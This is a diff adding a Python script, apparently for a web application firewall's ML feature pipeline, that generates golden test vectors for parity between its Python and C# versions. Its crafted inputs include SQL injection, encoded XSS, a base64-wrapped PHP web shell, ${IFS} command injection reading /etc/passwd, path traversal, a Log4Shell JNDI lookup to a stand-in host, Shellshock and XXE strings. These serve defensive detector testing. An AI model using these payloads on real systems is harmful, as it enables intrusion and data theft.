@@ -1,0 +1,91 @@
+"""Writes the golden vectors that hold Python and C# equal: `python3 -m wafml.golden ../Features/golden`."""
+
+import base64
+import json
+import random
+import sys
+import zlib
+from pathlib import Path
+
+import numpy as np
+
+from .features import BUCKETS, ngram_indices, tokens, windows
+from .gate import Gate
+from .normalize import ENTITIES, FLAGS, is_plain, normalize
+
+SEED = 20261122
+
+CRAFTED = [
+    b"", b" ", b"a", b"hello world", b"id-42_x.y", b"..", b"a..b", b"x" * 64, b"x" * 65,
+    b"1' OR '1'='1' -- ", b"1%27%20or%201=1", b"1%2527%2520or%25201%3D1", b"%u0027%u003cscript%u003e", b"%uD800%uFFFF%u00e9",
+    b"100% sure", b"%", b"%4", b"%zz", b"%u00", b"%u12g4", b"%25%32%37", b"a%00b%c0%afc%e0%80%afd%c1%bf",
+    b"\xc0\xae\xc0\xae/", b"\xe0\x80\xae\xe0\x81\xbf\xe0\x82\x80\xc0", b"\xc0", b"\xe0\x80", b"\xef\xbc", b"\xe2\x80", b"\xca",
+    "\uff1cscript\uff1e\uff3f\uff40\uff5e\uff5f".encode(), "it\u2019s \u201cquoted\u201d \u02bcx".encode(),
+    "\u56fe\u6ce2\u3000\u5217\u592b".encode(), "\u00a0nbsp\u00a0 \u00a0".encode(),
+    b"&lt;script&gt;alert&lpar;1&rpar;&lt;/script&gt;", b"&#60;&#x3C;&#0000060;&#x00003c&#60a&#xg;&#;&#", b"&#0;&#x0;a&#1114112;&#x110000;&#55296;",
+    b"&lt &gt;&LT;&Amp;amp;&nosuch;&toolongname;&a;&;&NewLine;&Tab;x", b"&amp;amp;amp;amp;amp;amp;lt;", b"a=1&b=2&copy=3",
+    b"\\x3cscript\\x3e \\u003c \\u{3c} \\u{1F600} \\u{110000} \\u{} \\u{1234567} \\u{3c \\xg0 \\u12 \\", b"C:\\Users\\x41\\new",
+    b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg===",
+    b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0P", base64.b64encode(b"MSwgMiBhbmQgMw"), base64.b64encode(b"onlylettersanddigits1234"),
+    base64.b64encode(b"%3Cscript%3Ealert(1)%3C/script%3E"), base64.urlsafe_b64encode(b"??>>~~ union select ~~<<??"), base64.b64encode(bytes(range(30))),
+    base64.b64encode(base64.b64encode(b"<?php system($_GET['c']); ?>")),
+    b"un/**/ion/*!50000select*/1/*!*/ /*!1234567*/ /* a b */ /***/ /*", b"/*" + b"c" * 64 + b"*/x", b"/*" + b"c" * 65 + b"*/x", b"/*/", b"/*!", b"src/**/*.ts */*",
+    b"cat${IFS}/etc/passwd;cat$IFS$9x;a$ifs;${ifs%%?}b;${IFS:0:1}c;$IFS$@d;${if};$if;${IFS12345678901234567}e;$IFS$", b"$", b"${IFS",
+    b"\x01\x02a\tb\nc\x0bd\x0ce\x7ff\x1f", b"\x00\x00", b"  Many   Spaces\r\n\r\n ", b"UPPER lower MiXeD",
+    b"../../../../etc/passwd", b"${jndi:ldap://x.example/a}", b"() { :;}; echo vulnerable", b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+    b"x" * 240, b"x" * 241, b"ab" * 200, b"word " * 100, b"A" * 8192, b"A" * 8193, b"%41" * 3000, bytes(range(256)),
+]
+
+
+def generate() -> "list[bytes]":
+    """The crafted values and random mixtures of the pieces that steps react to."""
+    rng = random.Random(SEED)
+    pieces = [b"%", b"%2", b"%27", b"%2527", b"%u0027", b"%U003C", b"&", b"&#", b"&#x", b"&#39;", b"&lt;", b"&amp;", b";", b"\\", b"\\x", b"\\x27",
+              b"\\u", b"\\u0027", b"\\u{27}", b"{", b"}", b"\xc0", b"\xc0\xaf", b"\xe0\x80", b"\xaf", b"\xef\xbc\x9c", b"\xe2\x80\x99", b"\xca\xbc",
+              b"\x00", b"\x01", b"\xc2\xa0", b"\xe3\x80\x80", b" ", b"\t", b"/*", b"*/", b"/*!", b"*", b"/", b"0", b"41", b"e", b"Fa", b"$", b"$IFS",
+              b"${IFS", b"$9", b"x", b"u", b"SELECT", b"union", b"'", b"=", b"..", b"3c", b"&" + rng.choice(sorted(ENTITIES)) + b";"]
+    values = list(CRAFTED)
+    for _ in range(1200):
+        values.append(b"".join(rng.choice(pieces) for _ in range(rng.randint(1, 14))))
+    for name in sorted(ENTITIES):
+        values.append(b"a&" + name + b";b")
+    for _ in range(100):
+        values.append(bytes(rng.randrange(256) for _ in range(rng.randint(1, 600))))
+    return values
+
+
+def synthetic_gate() -> Gate:
+    """Weights from a formula that both languages write down, so that no weights file is needed."""
+    index = np.arange(BUCKETS, dtype=np.uint64)
+    weights = (((index * 2654435761) & 0xFFFFFFFF) >> 24).astype(np.uint8).view(np.int8)
+    flags = (np.arange(FLAGS, dtype=np.float32) - np.float32(5)) / np.float32(8)
+    return Gate(weights, flags, np.float32(-0.75), np.float32(0.03125))
+
+
+def record(value: bytes, gate: Gate) -> dict:
+    normalized, flags = normalize(value)
+    parts = windows(normalized)
+    return {
+        "value": base64.b64encode(value).decode(),
+        "normalized": base64.b64encode(normalized).decode(),
+        "flags": flags,
+        "plain": is_plain(normalized, flags),
+        "windows": len(parts),
+        "ngrams": zlib.crc32(ngram_indices(parts[0]).astype("<u4").tobytes()),
+        "tokens": zlib.crc32(np.array(tokens(parts[-1], flags), dtype="<u4").tobytes()),
+        "tokenCount": len(tokens(parts[-1], flags)),
+        "logit": gate.logit(normalized, flags),
+    }
+
+
+def main() -> None:
+    out = Path(sys.argv[1])
+    out.mkdir(parents=True, exist_ok=True)
+    gate = synthetic_gate()
+    with open(out / "values.jsonl", "w", encoding="ascii") as file:
+        for value in generate():
+            file.write(json.dumps(record(value, gate), separators=(",", ":")) + "\n")
+
+
+if __name__ == "__main__":
+    main()
